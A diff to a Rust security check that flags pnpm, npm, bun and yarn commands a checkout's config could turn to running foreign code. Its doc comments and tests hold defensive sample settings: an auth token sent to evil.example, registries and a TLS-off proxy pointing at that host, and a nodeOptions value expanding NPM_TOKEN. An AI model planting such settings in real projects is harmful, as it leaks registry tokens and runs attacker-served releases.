@@ -52,7 +52,10 @@ declare_check! {
     ///   poetry installs there and loads before it reads its options);
     /// - dotnet with a `global.json` that names SDK `paths` (.NET 10);
     /// - pnpm (any command but `--version`) with a `.pnpmfile.cjs`, or a `pnpmfile` or
-    ///   `configDependencies` setting in `pnpm-workspace.yaml` (or `.npmrc`);
+    ///   `configDependencies` setting in `pnpm-workspace.yaml` (or `.npmrc`); or in a project
+    ///   that asks for a pnpm release (`packageManager`, `devEngines.packageManager`), which
+    ///   pnpm downloads and runs, while `.npmrc` or `pnpm-workspace.yaml` names the registry it
+    ///   comes from;
     /// - uv's and poetry's verbs that look at the project's environment (`uv pip list`,
     ///   `poetry show`) with a `.venv` in the checkout, or an interpreter or environment
     ///   named by the project's configuration (uv's `pip.python` in `uv.toml` or
@@ -66,8 +69,8 @@ declare_check! {
     /// - npm with a project `.npmrc` naming a program it runs (`browser`, `viewer`, `editor`,
     ///   `shell`, `script-shell`, `git`), code node loads (`node-options`, `init-module`), or
     ///   another file npm reads as configuration (`userconfig`, `globalconfig`, `prefix`);
-    /// - npm, pnpm, bun and yarn with a project rc file (`.npmrc`; `bunfig.toml`; `.yarnrc`,
-    ///   `.yarnrc.yml`) that expands an environment variable into a value
+    /// - npm, pnpm, bun and yarn with a project rc file (`.npmrc`; pnpm's
+    ///   `pnpm-workspace.yaml`; `bunfig.toml`; `.yarnrc`, `.yarnrc.yml`) that expands an environment variable into a value
     ///   (`//evil.example/:_authToken=${NPM_TOKEN}`), sends the registry requests through a
     ///   proxy, without TLS checks or trusting a certificate authority it names
     ///   (`https-proxy`, `strict-ssl`, `cafile`), or names another configuration file
@@ -760,6 +763,9 @@ fn reads_code(u: &Unit, dir: &Path, cx: &CheckCtx, w: &LineWrites) -> Option<Str
         && let Some(f) = project_dirs(dir, root).find_map(|d| {
             let files: &[&str] = match base {
                 "bun" | "bunx" => &[".npmrc", "bunfig.toml"],
+                // pnpm 11 reads its network settings (`httpsProxy`, `strictSsl`, `ca`) from
+                // `pnpm-workspace.yaml`, expanding `${NAME}` in its values.
+                "pnpm" | "pnpx" => &[".npmrc", "pnpm-workspace.yaml"],
                 "yarn" | "yarnpkg" => &[".npmrc", ".yarnrc", ".yarnrc.yml"],
                 _ => &[".npmrc"],
             };
@@ -894,7 +900,8 @@ fn reads_code(u: &Unit, dir: &Path, cx: &CheckCtx, w: &LineWrites) -> Option<Str
                     d.display()
                 )
             })
-        }),
+        })
+        .or_else(|| pnpm_release_from_checkout_registry(dir, root, w)),
         // .NET 10's `global.json` `sdk.paths` names where the SDK is looked for: `dotnet
         // --version` and `dotnet --info` run the SDK found there.
         "dotnet" => project_dirs(dir, root)
@@ -2904,6 +2911,53 @@ fn package_manager_is_a_release(text: &str) -> bool {
         && hash.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'.')
 }
 
+/// Why pnpm, run in `dir`, would run a pnpm release fetched from a registry the checkout
+/// names. pnpm runs the release the project asks for before any command (`packageManager:
+/// "pnpm@…"` while `managePackageManagerVersions` is on, the default since pnpm 10;
+/// `devEngines.packageManager` with `onFail: "download"` since pnpm 11), downloaded from the
+/// registry it is configured with: a `registry` (or `@pnpm:registry`, `registries`) in the
+/// project's `.npmrc` or `pnpm-workspace.yaml` makes that release whatever the host serves. A
+/// `package.json` that cannot be read as JSON, and files the line writes, count as asking.
+fn pnpm_release_from_checkout_registry(dir: &Path, root: &Path, w: &LineWrites) -> Option<String> {
+    let wants = project_dirs(dir, root)
+        .map(|d| d.join("package.json"))
+        .any(|f| {
+            w.has(&f)
+                || w.cx.look.read_to_string(&f).is_ok_and(|t| {
+                    let Ok(serde_json::Value::Object(m)) = serde_json::from_str(&t) else {
+                        return true;
+                    };
+                    m.get("packageManager")
+                        .is_some_and(|v| v.as_str().is_none_or(|v| v.starts_with("pnpm")))
+                        || m.get("devEngines")
+                            .is_some_and(|e| e.get("packageManager").is_some())
+                })
+        });
+    if !wants {
+        return None;
+    }
+    let names_registry = |t: &str| {
+        t.lines().any(|l| {
+            let l = l
+                .trim_start()
+                .trim_start_matches(['"', '\''])
+                .to_ascii_lowercase();
+            ["registry", "@pnpm:registry", "registries"]
+                .iter()
+                .any(|k| l.starts_with(k))
+        })
+    };
+    project_dirs(dir, root)
+        .flat_map(|d| [".npmrc", "pnpm-workspace.yaml"].map(|f| d.join(f)))
+        .find(|f| w.has(f) || w.cx.look.read_to_string(f).is_ok_and(|t| names_registry(&t)))
+        .map(|f| {
+            format!(
+                "`{}` names the registry pnpm fetches the pnpm release the project asks for (`packageManager`, `devEngines`) from, and pnpm runs that release before any command",
+                f.display()
+            )
+        })
+}
+
 /// `pnpm -v`, `pnpm --version` (and npm's): answered before the configuration is read.
 fn pnpm_version_only(u: &Unit) -> bool {
     let mut args = u.args().map(text);
@@ -4835,6 +4889,75 @@ mod tests {
         assert!(flagged(root, "npm --prefix sub help ls").is_some());
         assert!(flagged(root, "npm -C sub help ls").is_some());
         assert!(flagged(root, "npm help ls --prefix=sub").is_some());
+    }
+
+    /// pnpm fetches and runs the pnpm release the project asks for from the registry it is
+    /// configured with, and pnpm 11 reads its network settings from `pnpm-workspace.yaml`.
+    #[test]
+    fn pnpm_release_and_settings_of_the_checkout() {
+        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        let root = t.path();
+        write(
+            root,
+            "package.json",
+            "{\"packageManager\": \"pnpm@10.12.1\"}\n",
+        );
+        assert_eq!(
+            flagged(root, "pnpm ls"),
+            None,
+            "the release from the default registry"
+        );
+        write(root, ".npmrc", "save-exact=true\n");
+        assert_eq!(flagged(root, "pnpm ls"), None);
+        for (file, text) in [
+            (".npmrc", "registry=https://evil.example/\n"),
+            (".npmrc", "@pnpm:registry=https://evil.example/\n"),
+            (
+                "pnpm-workspace.yaml",
+                "packages:\n  - 'a/*'\nregistry: https://evil.example/\n",
+            ),
+        ] {
+            std::fs::remove_file(root.join(".npmrc")).ok();
+            std::fs::remove_file(root.join("pnpm-workspace.yaml")).ok();
+            write(root, file, text);
+            assert!(flagged(root, "pnpm ls").is_some(), "{file}: {text}");
+            assert!(flagged(root, "pnpm why react").is_some(), "{file}: {text}");
+            assert_eq!(flagged(root, "pnpm --version"), None);
+            write(root, "package.json", "{\"name\": \"x\"}\n");
+            assert_eq!(
+                flagged(root, "pnpm ls"),
+                None,
+                "no release asked for: {text}"
+            );
+            write(
+                root,
+                "package.json",
+                "{\"devEngines\": {\"packageManager\": {\"name\": \"pnpm\", \"onFail\": \"download\"}}}\n",
+            );
+            assert!(flagged(root, "pnpm ls").is_some(), "devEngines: {text}");
+            write(
+                root,
+                "package.json",
+                "{\"packageManager\": \"pnpm@10.12.1\"}\n",
+            );
+        }
+        std::fs::remove_file(root.join("pnpm-workspace.yaml")).ok();
+        write(root, "package.json", "{\"name\": \"x\"}\n");
+        write(root, "pnpm-workspace.yaml", "packages:\n  - 'packages/*'\n");
+        assert_eq!(flagged(root, "pnpm outdated"), None);
+        for settings in [
+            "httpsProxy: http://evil.example:8080\nstrictSsl: false\n",
+            "ca: ./ca.pem\n",
+            "nodeOptions: --max-old-space-size=${NPM_TOKEN}\n",
+        ] {
+            write(root, "pnpm-workspace.yaml", settings);
+            assert!(flagged(root, "pnpm outdated").is_some(), "{settings}");
+            assert_eq!(
+                flagged(root, "npm view left-pad"),
+                None,
+                "npm does not read it"
+            );
+        }
     }
 
     #[test]
